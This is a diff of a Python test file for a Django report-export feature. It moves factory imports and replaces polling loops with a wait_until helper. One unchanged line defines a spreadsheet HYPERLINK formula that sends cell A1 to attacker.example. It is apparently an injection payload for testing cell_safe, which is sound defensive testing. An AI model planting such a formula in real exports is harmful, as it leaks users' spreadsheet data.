@@ -3,7 +3,6 @@
 import csv
 import io
 import os
-import time
 from datetime import timedelta
 
 import pytest
@@ -16,11 +15,11 @@ from accounts.models import UnitRole
 from reports import tasks
 from reports.exports import ERROR_SCOPE, cell_safe, export_build
 from reports.models import ExportJob, UnitStat
-from tests.factories import sign_in
+from tests.accounts.factories import sign_in
+from tests.reports.factories import COMMUNE_A, COMMUNE_B, HAI_PHONG, official_of, stat_create
+from tests.waiting import wait_until
 from units.models import Unit
 from units.services import unit_create
-
-from . import COMMUNE_A, COMMUNE_B, HAI_PHONG, official_of, stat_create
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")'
 
@@ -59,13 +58,16 @@ def hai_phong_stats(units_tx):
 
 
 def wait_for(job: ExportJob, *, timeout: float = 30) -> ExportJob:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
+    def finished():
         job.refresh_from_db()
-        if job.status in (ExportJob.Status.DONE, ExportJob.Status.FAILED):
-            return job
-        time.sleep(0.1)
-    raise AssertionError(f"export {job.pk} still {job.status} after {timeout}s")
+        return job.status in (ExportJob.Status.DONE, ExportJob.Status.FAILED)
+
+    wait_until(
+        finished,
+        timeout=timeout,
+        message=lambda: f"export {job.pk} still {job.status} after {timeout} s",
+    )
+    return job
 
 
 def export_through_worker(client, code: str, file_format: str, **params) -> ExportJob:
@@ -270,11 +272,8 @@ def test_purge_removes_old_jobs_and_their_files(celery_worker, units_tx, media_r
     recent.file.save("recent.csv", ContentFile(b"a,b\n"))
     old_path, recent_path = old.file.path, recent.file.path
 
-    tasks.exports_purge.delay()
+    tasks.exports_purge.delay().get(timeout=30)  # through the broker and the worker
 
-    deadline = time.monotonic() + 30
-    while ExportJob.objects.filter(pk=old.pk).exists() and time.monotonic() < deadline:
-        time.sleep(0.1)
     assert not ExportJob.objects.filter(pk=old.pk).exists()
     assert ExportJob.objects.filter(pk=recent.pk).exists()
     assert not os.path.exists(old_path)
